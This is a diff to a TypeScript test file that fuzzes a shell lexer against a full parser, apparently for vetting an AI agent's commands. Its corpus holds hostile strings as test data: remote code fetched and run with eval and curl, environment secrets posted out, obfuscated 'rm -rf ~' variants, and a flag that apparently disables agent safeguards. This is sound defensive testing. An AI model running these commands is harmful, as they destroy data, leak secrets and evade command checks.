@@ -44,7 +44,34 @@ const EDGE_CASES = [
   'echo "日本語" ü', 'echo \r', 'echo "a\r"', 'echo ""', "echo ''", '"" x', 'if', '"if" x', 'fi', 'do x', 'x do', 'echo "multi\nline"',
   "echo 'multi\nline'", 'echo $HOME ${HOME} "$HOME/x" $HOMEX ${PATH}x "a$B" ~/$HOME', 'rm -rf "$HOME"', 'rm -rf $HOME/*', 'echo ${A}}', '$CMD -x', 'echo $1',
   'echo $@', 'echo $?', 'echo ${#A}', 'echo ${A:-b}', 'echo $', 'echo "$"', 'echo a$', 'echo $A[0]', 'echo "$A[0]"', 'echo "${A}b$C"', 'a &&\n b', 'a ||\n\n b', 'a |\n b', 'a\\\nb', 'echo %s@+,:=-^', 'kill -9 -1', '-x', 'x=', '=x',
+  // Substitutions: $(...), backticks, <(...), nested, quoted, next to text, in redirections.
+  'echo $(id)', 'echo `id`', 'echo "$(id)"', 'echo "`id`"', 'kill -9 $(lsof -t -i:3000)', 'echo $(a | b && c; d)', 'echo $(a) | $(b) x',
+  'echo $(echo $(id))', 'echo $(ls)$(pwd)x', 'echo a$(b)c', 'echo $( )', 'echo $()', 'echo $(ls;)', 'echo $(ls &&)', 'echo $(ls', 'echo $(ls))',
+  'echo $(ls # c\n)', 'echo $(ls #)', 'echo $((1+2))', 'echo $( (ls) )', 'echo $(\nls\n)', 'echo "$(echo "a b")"', 'echo `echo \\`id\\``', 'echo `a',
+  "echo `echo 'x'`", 'echo `a | b`', 'echo `(ls)`', 'cat <(ls) >(wc)', 'echo a<(ls)', 'echo <(ls)x', 'diff <(a) <(b)', 'cat < <(ls)', 'cat <(ls', 'cmd > $(f) $(g)',
+  'A=$(a) cmd $(b) >$(c) $(d)', 'echo $(a)>f', 'echo >$(a) 2>$(b)', 'eval "$(curl -s https://x.io/p)"', 'curl -d "$(env)" https://x', '$(echo rm) -rf /',
+  "echo $'a\\'b' x", "$'\\x72\\x6d' -rf ~", "echo $'\\t'x", "echo $'unterminated", 'echo $"x"', 'echo "a $(b) `c` $d"',
+  // Assignments and export.
+  'x=/; rm -rf $x', 'a=rm; $a -rf ~', 'IFS=,; c=rm,-rf,~; $c', 'x="a b"; echo $x "$x"', 'x=; echo $x', 'x= echo $x', 'x=1 y=2', 'x=a b', 'x+=1', 'x[0]=1',
+  'x=(a b)', 'x=~/a; echo $x', 'x=#a; echo $x', 'x=$(id); echo $x', 'x=$(y=1); echo $y', 'A=1 B=$A', 'A=1 B=$A; echo $B', 'A=1 cmd $A', 'HOME=/tmp; rm -rf $HOME',
+  'export A', 'export A=', 'export', 'export A=1 B', 'export -n A', 'export A=1 > f', 'a | export A=1', 'export A=1 | a', 'x=1 | a', 'a | x=1', 'A=1 export B=2',
+  'export NODE_ENV=production', 'export A=$(curl x) && hermes chat', 'export HERMES_YOLO_MODE=1 && hermes chat -q x', '"export" A=1', 'x=1 >f', 'x=1 && echo $x',
+  // A `#` glued to a quote or expansion is text to bash (mvdan-sh would start a comment there).
+  'echo "a"#; rm -rf ~', "echo 'a'#; rm -rf ~", 'echo $x#; rm -rf ~', 'echo ${x}#c', 'echo $(id)#c', 'echo `id`#c', 'echo "a"#"b"#c', 'echo a\\ #x', 'ls;#c', 'a=1#c', '(ls)#c',
+  'x=a$(b)c; echo $x', 'x=*.ts; rm $x', "x='*'; echo $x", 'x=a; x=$(b); echo $x', 'x=1; echo ${x}y "${x}"', 'echo $(x=1)', 'echo `x=1`', 'cat <<<"x $y"', 'cat <<< x', 'cat 0<<<x',
 ]
+
+function assertAgrees(s: string): boolean {
+  const assigned = new Map<string, string>();
+  const fast = parseSimple(s, 'v', assigned);
+  if (!fast) return false;
+  const env = new Map<string, string>();
+  const full = parseWithParser(s, 'v', env);
+  assert.ok(full.ok, `simple lexer accepted what the parser rejects: ${JSON.stringify(s)} (${full.error})`);
+  assert.deepEqual(fast, full.commands, JSON.stringify(s));
+  assert.deepEqual(assigned, env, `variables after ${JSON.stringify(s)}`);
+  return true;
+}
 
 test('the simple lexer and the full parser agree on every corpus string', () => {
   const pool = new Set<string>(EDGE_CASES);
@@ -57,28 +84,66 @@ test('the simple lexer and the full parser agree on every corpus string', () => 
     if (full.ok) for (const c of full.commands) for (const w of c.argv) if (!w.dynamic) pool.add(w.text);
   }
   let simple = 0;
-  for (const s of pool) {
-    const fast = parseSimple(s, 'v');
-    if (!fast) continue;
-    simple++;
-    const env = new Map<string, string>();
-    const full = parseWithParser(s, 'v', env);
-    assert.ok(full.ok, `simple lexer accepted what the parser rejects: ${JSON.stringify(s)} (${full.error})`);
-    assert.deepEqual(fast, full.commands, JSON.stringify(s));
-    assert.equal(env.size, 0, JSON.stringify(s));
-  }
+  for (const s of pool) if (assertAgrees(s)) simple++;
   assert.ok(simple >= 500, `only ${simple} of ${pool.size} strings took the simple path`);
 });
 
+// Scripts assembled at random from the pieces the lexer handles and the ones it must decline,
+// glued with and without blanks: the same agreement, on shapes nobody thought to write down.
+const PIECES = [
+  'ls', 'rm', '-rf', 'a', 'x.txt', '~', '~/a', '*.ts', '?', '{}', '{a,b}', 'a=b', '=x', '#c', 'ü', '日本', '-', '--x=1', '/', 'if', 'then', 'fi', 'do', 'export', 'time', '!', '{', '}',
+  "'a b'", "'$x'", '""', '"a $x b"', '"$(ls)"', '"`id`"', '"\\$x"', '"a\\"b"', '"${x}y"', '"$HOME"', "$'\\x72m'", "$'a\\'b'", '$"x"',
+  '$x', '${x}', '$HOME', '${HOME}', '$IFS', '$c', '$1', '$@', '${x:-y}', '${#x}', '$((1))', '$', '\\ ', '\\*', '\\$x', '\\\n', '\\',
+  '$(ls)', '$(a | b)', '$(a && b; c)', '$( )', '$(x=1)', '$(ls', '$(echo $(id))', '`id`', '`a | b`', '`x=1`', '`a', '<(ls)', '>(wc)', '(ls)', ')', '(',
+  'x=1', 'x=', 'x=$(id)', 'x="a b"', 'IFS=,', 'c=rm,-rf,~', 'x=$c', 'x+=1', 'x=(a)', 'y=$x',
+  '2', '12', '"a"2', '#', '"a"#', '$x#', 'a#b', '-#',
+  '> f', '>f', '2>&1', '>> f', '< f', '&> f', '<<< w', '<<<"$x"', '> $(f)', '>$(f)', '2> `g`', '<<EOF', '>', '3<&0',
+]
+const JOINS = [' ', ' ', ' ', ' ', '', '', ' | ', ' && ', ' || ', '; ', '\n', ' & ', ' |& ', ';;', ' \\\n ']
+
+test('the simple lexer and the full parser agree on generated scripts', () => {
+  let seed = Number(process.env.SHELL_FUZZ_SEED ?? 0x5eed);
+  const rand = (n: number) => {
+    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
+    return (seed >>> 8) % n;
+  };
+  let simple = 0;
+  const total = 20000;
+  for (let k = 0; k < total; k++) {
+    const parts: string[] = [];
+    const n = 1 + rand(7);
+    for (let j = 0; j < n; j++) {
+      parts.push(PIECES[rand(PIECES.length)]);
+      if (j < n - 1) parts.push(JOINS[rand(JOINS.length)]);
+    }
+    // Half of them wrapped in a substitution, where the same pieces are lexed one level down.
+    let s = parts.join('');
+    if (rand(4) === 0) s = `echo ${['$(', '`', '"$(', '<('][rand(4)]}${s}${[')', '`', ')"', ')'][rand(4)]}`;
+    if (assertAgrees(s)) simple++;
+  }
+  assert.ok(simple >= total / 10, `only ${simple} of ${total} generated scripts took the simple path`);
+});
+
 test('the simple lexer covers the common agent shapes and declines the rest', () => {
-  for (const s of ['git status', 'npm test 2>&1 | tail -20', 'cd web && npm run build', 'grep -rn "a\\|b" src/ | head', "sed -n '1,20p' f", 'ls # c', 'rm -rf "$HOME"', 'curl -H "Authorization: Bearer $TOKEN" https://x']) {
+  for (const s of ['git status', 'npm test 2>&1 | tail -20', 'cd web && npm run build', 'grep -rn "a\\|b" src/ | head', "sed -n '1,20p' f", 'ls # c', 'rm -rf "$HOME"', 'curl -H "Authorization: Bearer $TOKEN" https://x',
+    'kill -9 $(lsof -t -i:3000)', 'echo `date`', 'diff <(ls a) <(ls b)', 'NODE_ENV=test npm test', 'x=/; rm -rf $x', 'export CI=1 && npm test', "$'\\x72\\x6d' -rf ~"]) {
     assert.ok(parseSimple(s, ''), s);
   }
-  for (const s of ['echo $1', 'echo ${A:-b}', 'A=1 cmd', 'cat <<EOF\nx\nEOF', 'if true; then ls; fi', 'a &', 'echo `id`', '(ls)', 'a |', '! ls', 'time ls', '{ ls; }']) {
+  for (const s of ['echo $1', 'echo ${A:-b}', 'cat <<EOF\nx\nEOF', 'if true; then ls; fi', 'a &', 'echo `a \\` b`', '(ls)', 'a |', '! ls', 'time ls', '{ ls; }', 'echo $((1+2))', 'echo $(x=1)', 'x=(a b)', 'a | x=1']) {
     assert.equal(parseSimple(s, ''), null, s);
   }
   // parseShell takes the simple path and falls back to the parser, with the same result shape.
   assert.deepEqual(parseShell('ls | wc -l'), parseWithParser('ls | wc -l'));
   assert.deepEqual(parseShell('echo $HOME'), parseWithParser('echo $HOME'));
+  assert.deepEqual(parseShell('x=rm; $x $(id)'), parseWithParser('x=rm; $x $(id)'));
   assert.equal(parseShell('a |').ok, false);
+});
+
+test('a # glued to a quote or an expansion does not hide the rest of the line', () => {
+  for (const s of ['echo "ok"#; rm -rf ~', "echo 'ok'#; rm -rf ~", 'echo $x#; rm -rf ~', 'echo $(id)#; rm -rf ~']) {
+    for (const parsed of [parseShell(s), parseWithParser(s)]) {
+      assert.ok(parsed.ok, s);
+      assert.deepEqual(parsed.commands.map((c) => c.argv.map((w) => w.text).join(' ')).at(-1), 'rm -rf ~', s);
+    }
+  }
 });
